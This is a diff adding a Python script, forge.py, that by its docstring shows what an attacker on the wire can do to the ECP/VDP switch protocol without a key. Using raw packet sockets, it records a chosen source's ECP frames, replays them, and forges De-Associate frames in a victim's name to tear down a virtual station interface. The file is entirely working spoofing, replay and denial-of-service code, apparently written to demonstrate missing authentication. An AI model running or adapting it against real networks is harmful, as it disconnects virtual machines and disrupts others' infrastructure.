@@ -1,0 +1,57 @@
+# SPDX-License-Identifier: Apache-2.0
+"""What somebody on the wire can do to ECP without a key.
+
+  forge.py record IF SOURCE FILE READY_FILE   ECP frames of SOURCE that arrive, a line of hexadecimal digits each, until ended
+  forge.py replay IF FILE                     all of them again; says how many
+  forge.py deassociate IF SOURCE VSI COUNT    plain De-Associates of the whole VSI, in SOURCE's name
+"""
+import random
+import socket
+import struct
+import sys
+import uuid
+
+ETHERTYPE = 0x8940
+GROUP = bytes.fromhex("0180c2000000")
+BODY = struct.pack("!H", 4 << 9 | 25)  # De-Associate, no filter information
+HEAD = bytes.fromhex("1001")
+
+
+def wire_of(interface, ethertype=0):
+    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ethertype))
+    wire.bind((interface, ethertype))
+    return wire
+
+
+def record(interface, source, file, ready_file):
+    wire = wire_of(interface, ETHERTYPE)
+    wanted = bytes.fromhex(source.replace(":", ""))
+    with open(file, "w", encoding="ascii") as out:
+        with open(ready_file, "w", encoding="ascii"):
+            pass
+        while True:
+            frame, address = wire.recvfrom(2048)
+            if address[2] != socket.PACKET_OUTGOING and frame[6:12] == wanted:
+                print(frame.hex(), file=out, flush=True)
+
+
+def replay(interface, file):
+    wire = wire_of(interface)
+    with open(file, encoding="ascii") as lines:
+        frames = [bytes.fromhex(line) for line in lines.read().split()]
+    for frame in frames:
+        wire.send(frame)
+    print(len(frames))
+
+
+def deassociate(interface, source, vsi, count):
+    wire = wire_of(interface)
+    value = bytes([0]) + (1).to_bytes(3, "big") + bytes([1, 5]) + uuid.UUID(vsi).bytes + bytes([4]) + bytes(2)
+    vdpdu = bytes.fromhex("0a10") + bytes(16) + BODY + value + bytes(2)
+    for _ in range(int(count)):
+        sequence = struct.pack("!H", random.randrange(1 << 16))
+        frame = GROUP + bytes.fromhex(source.replace(":", "")) + struct.pack("!H", ETHERTYPE) + HEAD + sequence + vdpdu
+        wire.send(frame)
+
+
+{"record": record, "replay": replay, "deassociate": deassociate}[sys.argv[1]](*sys.argv[2:])
